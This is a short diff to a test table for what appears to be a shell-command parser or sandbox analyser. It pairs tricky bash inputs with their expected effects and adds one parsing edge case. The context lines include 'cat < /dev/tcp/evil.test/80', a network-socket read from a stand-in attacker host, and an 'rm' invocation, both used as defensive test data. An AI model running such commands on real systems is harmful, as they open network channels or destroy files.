@@ -81,6 +81,7 @@ TABLE: list[tuple[str, list[str], bool]] = [
     ("\\ rm x", ["proc:exec:rm/x"], True),  # bash runs ' rm'
     (">f; \\ # c", ["fs:write:/w/f"], True),  # bash runs ' #', the grammar sees a comment
     ("\\ <<<z", [], True),  # bash runs ' '
+    ("] }", [], True),  # one word with a blank to the grammar, `]` and `}` to bash
     ("echo \"a\"b 'c'\"d\" \\\n  e", ["proc:exec:echo/ab/cd/e"], False),
     ("cat < /dev/tcp/evil.test/80", ["proc:exec:cat"], True),
     # here-docs: the body is data, but an unquoted body's substitutions run
